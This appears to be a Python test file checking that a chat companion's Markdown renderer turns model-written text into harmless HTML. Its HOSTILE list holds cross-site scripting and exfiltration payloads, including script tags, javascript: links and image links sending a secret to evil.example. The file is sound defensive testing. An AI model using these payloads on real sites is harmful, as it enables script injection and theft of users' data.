"""What a model writes is shown as prose, and can neither run nor fetch anything."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from companion.api.rendering import LINKS, TAGS, prose

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](/accounts/logout/)",
    "[x](http://evil.example/)",
    "[x](https:evil.example)",
    "<a href='https://evil.example' hx-get='/x' hx-trigger='load'>x</a>",
    "<div hx-on:click='alert(1)' data-hx-post='/x' style='background:url(//evil.example)'>x</div>",
    "<form action='https://evil.example'><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<svg onload=alert(1)><use href='#x'/></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>@import url(https://evil.example)</style>",
    '<https://evil.example/" onmouseover="alert(1)>',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x> |",
    '[x](https://evil.example "title" onclick=alert(1))',
    "\x00<scr\x00ipt>alert(1)</script>",
]

ELEMENT = re.compile(r"<(/?)([a-zA-Z][^\s>/]*)([^>]*)>")
ALLOWED = re.compile(r'(?: (?:href="[^"<>]*"|rel="noopener nofollow"|start="\d{1,9}"))*')


def assert_harmless(html: str) -> None:
    for _, tag, attributes in ELEMENT.findall(html):
        assert tag in TAGS, html
        assert ALLOWED.fullmatch(attributes), html
    for address in re.findall(r'href="([^"]*)"', html):
        assert address.lower().startswith(LINKS), html


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_text_becomes_harmless(markdown: str) -> None:
    assert_harmless(prose(markdown))


@given(st.lists(st.sampled_from([*HOSTILE, "\n", " ", "*", "`", "[", "](", ")", "<", ">", "&", '"', "| "])))
def test_no_mixture_of_hostile_pieces_gets_through(pieces: list[str]) -> None:
    assert_harmless(prose("".join(pieces)))


def test_it_shows_what_is_written_in_html_as_text() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in prose("<b>bold</b>")


def test_a_picture_is_shown_by_its_description() -> None:
    assert prose("![A quiet <lake>](https://example.org/lake.png)") == "<p>A quiet &lt;lake&gt;</p>\n"


def test_a_link_leads_out_without_a_trace() -> None:
    link = '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow">notes</a>'

    assert prose("[notes](https://example.org/a?b=1&c=2)") == f"<p>{link}</p>\n"


def test_headings_stand_below_the_headings_of_the_page() -> None:
    assert prose("# One\n### Two") == "<h3>One</h3>\n<h4>Two</h4>\n"


def test_a_single_line_end_is_kept() -> None:
    assert prose("one\ntwo") == "<p>one<br>\ntwo</p>\n"


def test_it_knows_lists_tables_and_quotes() -> None:
    html = prose("3. c\n4. d\n\n> said\n\n| a |\n|---|\n| b |\n\n~~gone~~ **kept** `code`")

    for part in (
        '<ol start="3">',
        "<blockquote>",
        "<td>b</td>",
        "<s>gone</s>",
        "<strong>",
        "<code>code</code>",
    ):
        assert part in html
